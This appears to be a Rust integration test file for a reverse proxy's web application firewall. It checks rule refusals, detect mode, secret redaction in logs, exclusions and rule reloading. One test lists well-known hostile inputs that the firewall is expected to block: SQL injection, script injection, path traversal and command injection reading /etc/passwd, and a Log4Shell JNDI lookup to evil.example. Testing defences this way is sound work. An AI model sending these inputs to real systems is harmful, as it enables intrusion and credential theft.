//! The web application firewall: what rules refuse, what is told of it, and how rules change.

use crate::harness::http2::Client2;
use crate::harness::vanne::{binary, list};
use crate::harness::{Answer, Client, Origin, Settings, Vanne, ask, eventually};
use rustix::process::Signal;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;
use tempfile::TempDir;

/// Rules of the tests: arguments, a field, and what the config says.
const RULES: &str = r#"
SecRule REQUEST_HEADERS:X-Probe "@contains attack" \
    "id:1001,phase:1,deny,log,msg:'attack in a field',severity:'CRITICAL'"
SecRule ARGS|REQUEST_COOKIES "@contains attack" \
    "id:1002,phase:2,deny,log,msg:'attack in an argument',logdata:'%{MATCHED_VAR}',\
    tag:'attack-test',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+5'"
SecRule REQUEST_URI "@contains /odd" "id:1003,phase:1,pass,log,msg:'odd',tag:'odd'"
SecRule TX:blocking_paranoia_level "@eq 3" "id:1004,phase:1,deny,log,chain"
    SecRule ARGS_GET:paranoid "@streq 1"
SecRule TX:inbound_anomaly_score_threshold "@eq 7" "id:1005,phase:1,deny,log,chain"
    SecRule ARGS_GET:strict "@streq 1"
"#;

/// A folder with these rules in `test.conf`.
pub(crate) fn rules_of(text: &str) -> (TempDir, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("test.conf");
    std::fs::write(&path, text).unwrap();
    (folder, path)
}

/// A config before `origin` with the rules at `path`, and these lines of the firewall and tables.
pub(crate) fn config(origin: &Origin, path: &Path, waf: &str, more: &str) -> String {
    format!(
        "admin.socket = \"@dir/admin.sock\"\nwaf_log.to = \"@dir/waf.log\"\n\
         [listener.http]\naddress = \"@http\"\nprotocols = [\"h2\", \"http/1.1\"]\n[pool.app]\nbackends = {}\n\
         [waf.main]\nrules = [{path:?}]\n{waf}\n\
         [[route]]\nname = \"all\"\npool = \"app\"\nwaf = \"main\"\n{more}\n",
        list(&[origin.address])
    )
}

pub(crate) async fn guarded(origin: &Origin, waf: &str) -> (Vanne, TempDir) {
    let (folder, path) = rules_of(RULES);
    (Vanne::start(&config(origin, &path, waf, "")).await, folder)
}

pub(crate) fn is_refused(answer: &Answer) -> bool {
    answer.status() == 403 && answer.refusal().1 == "waf_refused"
}

async fn applied(vanne: &Vanne, config: &str) {
    let said = vanne.reload(config).await;
    assert_eq!(said["result"], "applied", "{said}");
}

/// Lines of the firewall's log, once there are so many.
pub(crate) async fn lines(vanne: &Vanne, count: usize) -> Vec<Value> {
    eventually("lines of the firewall", || {
        let text = std::fs::read_to_string(vanne.file("waf.log")).ok()?;
        let lines: Vec<Value> =
            text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        (lines.len() >= count).then_some(lines)
    })
    .await
}

async fn verdicts(vanne: &Vanne, verdict: &str, count: f64) {
    let labels = [("waf", "main"), ("verdict", verdict)];
    vanne.metric_is("vanne_waf_requests_total", &labels, count).await;
}

#[tokio::test]
async fn what_rules_refuse_gets_403_with_the_requests_id_and_goes_nowhere() {
    let origin = Origin::fixed("x").await;
    let (vanne, _rules) = guarded(&origin, "").await;
    assert_eq!(vanne.get("/?q=fine").await.status(), 200);
    for request in [
        "GET /?q=an+attack HTTP/1.1\r\nhost: a\r\n\r\n",
        "GET /?q=%61ttack HTTP/1.1\r\nhost: a\r\n\r\n",
        "GET / HTTP/1.1\r\nhost: a\r\nx-probe: 1\r\nX-PROBE: an attack\r\n\r\n",
        "GET / HTTP/1.1\r\nhost: a\r\ncookie: a=b; c=attack\r\n\r\n",
    ] {
        let answer = ask(vanne.http, request).await;
        assert!(is_refused(&answer), "{request}: {answer:?}");
        assert!(answer.text().contains(answer.id()) && !answer.text().contains("attack"));
        let line = vanne.log_of(answer.id()).await;
        assert_eq!((&line["end"], &line["by"]), (&"waf_refused".into(), &"client".into()));
    }
    assert_eq!(origin.requests().len(), 1, "what is refused goes nowhere");
    verdicts(&vanne, "passed", 1.0).await;
    verdicts(&vanne, "refused", 4.0).await;
    let labels = [("waf", "main"), ("family", "test")];
    vanne.metric_is("vanne_waf_matches_total", &labels, 4.0).await;
    let mut command = Command::new(binary());
    command.args(["waf", "top", "--json", "--socket"]).arg(vanne.file("admin.sock"));
    let output = command.output().unwrap();
    let said: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!((&said[0]["waf"], &said[0]["mode"]), (&"main".into(), &"block".into()));
    let first = &said[0]["rules"][0];
    assert_eq!((&first["rule"], &first["matches"]), (&1002.into(), &3.into()), "{said}");
    assert_eq!(first["message"], "attack in an argument");
    vanne.metric_is("vanne_waf_seconds_count", &[("waf", "main")], 5.0).await;
    let mut client = Client2::connect(vanne.http).await;
    assert_eq!(client.get("/?q=attack").await.status(), 403);
    assert_eq!(client.get("/?q=fine").await.status(), 200);
}

#[tokio::test]
async fn a_connection_is_kept_after_a_refused_get() {
    let origin = Origin::fixed("x").await;
    let (vanne, _rules) = guarded(&origin, "").await;
    let mut client = Client::connect(vanne.http).await;
    assert_eq!(client.get("/?q=attack").await.status(), 403);
    assert_eq!(client.get("/?q=fine").await.status(), 200);
}

#[tokio::test]
async fn detecting_refuses_nobody_and_tells_all_the_same() {
    let origin = Origin::fixed("x").await;
    let (folder, path) = rules_of(RULES);
    let vanne = Vanne::start(&config(&origin, &path, "mode = \"detect\"", "")).await;
    let answer = vanne.get("/?q=attack").await;
    assert_eq!(answer.status(), 200);
    let line = vanne.log_of(answer.id()).await;
    assert_eq!((&line["waf_rules"], &line["waf_score"]), (&"1002".into(), &5.into()), "{line}");
    verdicts(&vanne, "detected", 1.0).await;
    let said = &lines(&vanne, 1).await[0];
    assert_eq!((&said["rule"], &said["verdict"]), (&1002.into(), &"detected".into()));
    // None of them is looked at.
    let none = "mode = \"detect\"\nsample = \"0%\"";
    applied(&vanne, &config(&origin, &path, none, "")).await;
    let line = vanne.log_of(vanne.get("/?q=attack").await.id()).await;
    assert_eq!(line["waf_rules"], Value::Null);
    verdicts(&vanne, "detected", 1.0).await;
    applied(&vanne, &config(&origin, &path, "mode = \"off\"", "")).await;
    assert_eq!(vanne.get("/?q=attack").await.status(), 200);
    applied(&vanne, &config(&origin, &path, "mode = \"block\"", "")).await;
    assert!(is_refused(&vanne.get("/?q=attack").await));
    drop(folder);
}

#[tokio::test]
async fn a_line_tells_what_matched_and_hides_secrets() {
    let origin = Origin::fixed("x").await;
    let (vanne, _rules) = guarded(&origin, "").await;
    let answer = vanne.get("/?q=an%20%22attack%22%0a").await;
    let said = &lines(&vanne, 1).await[0];
    assert_eq!(said["request_id"], answer.id());
    let values = ["waf", "route", "client", "severity", "message", "variable", "value", "data"];
    let values = values.map(|name| said[name].as_str().unwrap().to_owned());
    let wanted = ["main", "all", "127.0.0.1", "critical", "attack in an argument", "ARGS:q"];
    assert_eq!(values[..6], wanted);
    assert_eq!(values[6..], ["an \"attack\"\n", "an \"attack\"\n"]);
    assert_eq!((&said["score"], &said["phase"]), (&5.into(), &2.into()));
    assert_eq!(said["tags"], serde_json::json!(["attack-test"]));
    let long = format!("/?q=attack{}", "x".repeat(2000));
    vanne.get(&long).await;
    assert_eq!(lines(&vanne, 2).await[1]["value"].as_str().unwrap().len(), 256);
    // By the name of the argument, of a part of it, and whatever it is in a cookie.
    vanne.get("/?password=attack-S3CRET").await;
    vanne.get("/?user%5Btoken%5D=attack-S3CRET").await;
    vanne.get("/?next=/a?token=S3CRET-attack").await;
    let cookie = "GET / HTTP/1.1\r\nhost: a\r\ncookie: c=attack-S3CRET\r\n\r\n";
    ask(vanne.http, cookie).await;
    for line in &lines(&vanne, 6).await[2..] {
        assert_eq!((&line["value"], &line["data"]), (&"***".into(), &"***".into()), "{line}");
    }
    let text = std::fs::read_to_string(vanne.file("waf.log")).unwrap();
    assert!(!text.contains("S3CRET"), "{text}");
}

#[tokio::test]
async fn the_firewalls_log_goes_where_it_is_told() {
    let origin = Origin::fixed("x").await;
    let (_folder, path) = rules_of(RULES);
    let first = config(&origin, &path, "", "");
    let vanne = Vanne::start(&first).await;
    vanne.get("/?q=attack").await;
    lines(&vanne, 1).await;
    applied(&vanne, &first.replace("@dir/waf.log", "@dir/other.log")).await;
    let id = vanne.get("/?q=attack").await.id().to_owned();
    eventually("a line elsewhere", || {
        let text = std::fs::read_to_string(vanne.file("other.log")).ok()?;
        text.contains(&id).then_some(())
    })
    .await;
    assert_eq!(lines(&vanne, 1).await.len(), 1);
    // It may be moved away.
    std::fs::rename(vanne.file("other.log"), vanne.file("moved.log")).unwrap();
    vanne.signal(Signal::USR1);
    eventually("the file anew", || vanne.file("other.log").exists().then_some(())).await;
    // Where nothing can be written, lines are dropped and counted.
    applied(&vanne, &first.replace("@dir/waf.log", "/dev/full")).await;
    assert!(is_refused(&vanne.get("/?q=attack").await));
    vanne.metric_is("vanne_waf_log_dropped_total", &[], 1.0).await;
}

#[tokio::test]
async fn lines_may_be_only_of_requests_that_are_refused() {
    let origin = Origin::fixed("x").await;
    let (vanne, _rules) = guarded(&origin, "log = \"refused\"").await;
    assert_eq!(vanne.get("/odd?q=fine").await.status(), 200);
    assert!(is_refused(&vanne.get("/odd?q=attack").await));
    let lines = lines(&vanne, 2).await;
    let of = |line: &Value| (line["rule"].as_u64().unwrap(), line["verdict"].clone());
    let expected = [(1003, "refused".into()), (1002, "refused".into())];
    assert_eq!(lines.iter().map(of).collect::<Vec<_>>(), expected);
}

#[tokio::test]
async fn the_config_says_paranoia_and_threshold_to_the_rules() {
    let origin = Origin::fixed("x").await;
    let (_folder, path) = rules_of(RULES);
    let vanne = Vanne::start(&config(&origin, &path, "", "")).await;
    assert_eq!(vanne.get("/?paranoid=1&strict=1").await.status(), 200);
    applied(&vanne, &config(&origin, &path, "paranoia = 3", "")).await;
    assert!(is_refused(&vanne.get("/?paranoid=1").await));
    assert_eq!(vanne.get("/?strict=1").await.status(), 200);
    applied(&vanne, &config(&origin, &path, "inbound_threshold = 7", "")).await;
    assert!(is_refused(&vanne.get("/?strict=1").await));
    assert_eq!(vanne.get("/?paranoid=1").await.status(), 200);
}

#[tokio::test]
async fn rules_may_be_left_out_or_not_look_at_something_on_all_routes_or_one() {
    let origin = Origin::fixed("x").await;
    let (_folder, path) = rules_of(RULES);
    let free = "[[route]]\nname = \"free\"\nmatch.path = \"/free\"\npool = \"app\"\nwaf = \"main\"";
    let excluded = |exclusion: &str| {
        config(&origin, &path, &format!("exclusions = [{{ {exclusion} }}]"), free)
    };
    let vanne = Vanne::start(&excluded("rule = 1002")).await;
    assert_eq!(vanne.get("/?q=attack").await.status(), 200);
    applied(&vanne, &excluded("tag = \"attack-test\"")).await;
    assert_eq!(vanne.get("/?q=attack").await.status(), 200);
    applied(&vanne, &excluded("rule = 1002, target = \"ARGS:q\"")).await;
    assert_eq!(vanne.get("/?q=attack").await.status(), 200);
    assert!(is_refused(&vanne.get("/?other=attack").await));
    applied(&vanne, &excluded("route = \"free\", rule = 1002")).await;
    assert_eq!(vanne.get("/free?q=attack").await.status(), 200);
    assert!(is_refused(&vanne.get("/?q=attack").await));
}

#[test]
fn exclusions_that_fit_no_rule_are_told_by_check_deep_at_their_place() {
    let (folder, path) = rules_of(RULES);
    let file = folder.path().join("vanne.toml");
    let text = format!(
        "[listener.http]\naddress = \"127.0.0.1:8080\"\n[pool.app]\nbackends = [\"127.0.0.1:1\"]\n\
         [[route]]\nname = \"all\"\npool = \"app\"\nwaf = \"main\"\n[waf.main]\nrules = [{path:?}]\n\
         exclusions = [\n{{ rule = 1002 }},\n{{ rule = 99999 }},\n{{ tag = \"nosuchtag\" }},\n]\n"
    );
    std::fs::write(&file, text).unwrap();
    let output = Command::new(binary()).args(["check", "--deep"]).arg(&file).output().unwrap();
    let told = String::from_utf8(output.stdout).unwrap();
    assert!(output.status.success() && told.contains("2 warnings"), "{told}");
    for part in ["no rule above fits `99999`", "no rule above fits `nosuchtag`", "13:", "14:"] {
        assert!(told.contains(part), "{part} in {told}");
    }
    assert!(!told.contains("`1002`"), "{told}");
}

#[tokio::test]
async fn rule_files_are_watched_and_a_bad_one_keeps_the_old_rules() {
    let origin = Origin::fixed("x").await;
    let (folder, _) = rules_of(RULES);
    let glob = folder.path().join("*.conf");
    let vanne = Vanne::start(&config(&origin, &glob, "", "")).await;
    assert_eq!(vanne.get("/?q=worm").await.status(), 200);
    let more = folder.path().join("zz.conf");
    std::fs::write(&more, "SecRule ARGS \"@contains worm\" \"id:2,phase:2,deny,log\"\n").unwrap();
    vanne.metric_is("vanne_config_generation", &[], 2.0).await;
    assert!(is_refused(&vanne.get("/?q=worm").await));
    // So are files that they include.
    let included = folder.path().join("more.inc");
    std::fs::write(&included, "").unwrap();
    std::fs::write(&more, "Include more.inc\n").unwrap();
    vanne.metric_is("vanne_config_generation", &[], 3.0).await;
    assert_eq!(vanne.get("/?q=worm").await.status(), 200);
    let rule = "SecRule ARGS \"@contains worm\" \"id:3,phase:2,deny,log\"\n";
    std::fs::write(&included, rule).unwrap();
    vanne.metric_is("vanne_config_generation", &[], 4.0).await;
    assert!(is_refused(&vanne.get("/?q=worm").await));
    std::fs::write(&more, "Include more.inc\nSecRule ARGS \"@rx (?=x)\" \"id:7,phase:2,deny\"\n")
        .unwrap();
    vanne.metric_is("vanne_config_reload_success", &[], 0.0).await;
    assert!(is_refused(&vanne.get("/?q=worm").await));
    let said = vanne.reload(&config(&origin, &glob, "", "")).await;
    assert_eq!(said["result"], "refused", "{said}");
    let message = said["message"].as_str().unwrap();
    for part in ["waf.main", "zz.conf:2:", "rule 7"] {
        assert!(message.contains(part), "{part} in {message}");
    }
}

#[tokio::test]
async fn rules_change_under_load_and_no_request_fails() {
    let origin = Origin::fixed("x").await;
    let (folder, path) = rules_of(RULES);
    let (vanne, text) = (Vanne::start(&config(&origin, &path, "", "")).await, RULES);
    let http = vanne.http;
    let asking = (0..4).map(|_| {
        tokio::spawn(async move {
            let mut client = Client::connect(http).await;
            for _ in 0..100 {
                assert_eq!(client.get("/?q=fine").await.status(), 200);
                assert_eq!(client.get("/?q=attack").await.status(), 403);
            }
        })
    });
    let asking: Vec<_> = asking.collect();
    for version in 2..7 {
        std::fs::write(&path, format!("{text}\n# {version}\n")).unwrap();
        applied(&vanne, &config(&origin, &path, "", "")).await;
    }
    for one in asking {
        one.await.unwrap();
    }
    vanne.metric_is("vanne_generations_alive", &[("held_by", "requests")], 0.0).await;
    drop(folder);
}

#[tokio::test]
async fn the_core_rule_set_is_read_from_its_folder() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir(folder.path().join("rules")).unwrap();
    let setup = "SecAction \"id:900990,phase:1,pass,nolog,setvar:tx.crs_setup_version=400\"\n";
    std::fs::write(folder.path().join("crs-setup.conf.example"), setup).unwrap();
    let rule = "SecRule TX:crs_setup_version \"@eq 400\" \"id:942999,phase:2,deny,log,chain\"\n\
                SecRule ARGS \"@contains union\" \"\"\n";
    std::fs::write(folder.path().join("rules/REQUEST-942-X.conf"), rule).unwrap();
    let origin = Origin::fixed("x").await;
    let more = format!("[waf.main]\ncrs = {:?}", folder.path());
    let settings = Settings { route: "waf = \"main\"", more: &more, ..Settings::default() };
    let vanne = Vanne::with(&[origin.address], settings).await;
    assert!(is_refused(&vanne.get("/?q=union").await));
    let labels = [("waf", "main"), ("family", "942")];
    vanne.metric_is("vanne_waf_matches_total", &labels, 1.0).await;
}

#[tokio::test]
async fn the_whole_core_rule_set_lets_a_browser_pass_and_refuses_attacks() {
    use vanne::config::{Environment, ProcessEnvironment};
    let Some(folder) = ProcessEnvironment.variable("VANNE_CRS_DIR") else {
        eprintln!("VANNE_CRS_DIR is not set: the whole Core Rule Set is not tried");
        return;
    };
    let origin = Origin::fixed("x").await;
    let more = format!("[waf.main]\ncrs = {folder:?}\nparanoia = 1\ninbound_threshold = 5");
    let listener = "protocols = [\"h2\", \"http/1.1\"]";
    let route = "waf = \"main\"";
    let settings = Settings { listener, route, more: &more, ..Settings::default() };
    let vanne = Vanne::with(&[origin.address], settings).await;
    let browser = |target: &str| {
        format!(
            "GET {target} HTTP/1.1\r\nhost: shop.example\r\nuser-agent: Mozilla/5.0 (X11; Linux \
             x86_64; rv:145.0) Gecko/20100101 Firefox/145.0\r\naccept: text/html,*/*;q=0.8\r\n\
             accept-language: en\r\ncookie: sid=0123456789abcdef\r\n\r\n"
        )
    };
    assert_eq!(ask(vanne.http, &browser("/search?q=shoes&page=2")).await.status(), 200);
    for target in [
        "/?id=1%27%20OR%20%271%27=%271%20UNION%20SELECT%20password%20FROM%20users--",
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?file=../../../../etc/passwd",
        "/?cmd=;cat%20/etc/passwd",
        "/?x=$%7Bjndi:ldap://evil.example/a%7D",
    ] {
        let answer = ask(vanne.http, &browser(target)).await;
        assert!(is_refused(&answer), "{target}: {answer:?}");
    }
    let mut client = Client2::connect(vanne.http).await;
    let request = client.request("GET", "/search?q=shoes").header("user-agent", "Mozilla/5.0");
    let (answer, _) = client.send(request.header("accept", "*/*"), true).await;
    let answer = crate::harness::http2::whole(answer).await.unwrap();
    assert_eq!(answer.status(), 200, "{}", answer.text());
}

#[tokio::test]
async fn a_deep_check_says_what_is_wrong_with_rules() {
    let (folder, path) = rules_of("SecRule ARGS \"@nothing x\" \"id:5,phase:2,deny\"\n");
    let config = format!(
        "[listener.http]\naddress = \"127.0.0.1:8080\"\n[waf.main]\nrules = [{path:?}]\n\
         [[route]]\nname = \"all\"\nanswer.body = \"x\"\nwaf = \"main\"\n"
    );
    let file = folder.path().join("vanne.toml");
    std::fs::write(&file, config).unwrap();
    let mut command = Command::new(binary());
    let output = command.arg("check").arg("--deep").arg(&file).output().unwrap();
    let text = String::from_utf8(output.stdout).unwrap();
    assert!(!output.status.success() && text.contains("test.conf:1:"), "{text}");
}

#[tokio::test]
async fn a_route_without_backends_is_guarded_by_its_head() {
    let (folder, path) = rules_of(RULES);
    let vanne = Vanne::start(&format!(
        "[listener.http]\naddress = \"@http\"\n[waf.main]\nrules = [{path:?}]\n\
         [[route]]\nname = \"all\"\nanswer.body = \"own\"\nwaf = \"main\"\n"
    ))
    .await;
    assert!(is_refused(&vanne.get("/?q=attack").await));
    assert_eq!(vanne.get("/?q=fine").await.text(), "own");
    drop(folder);
}
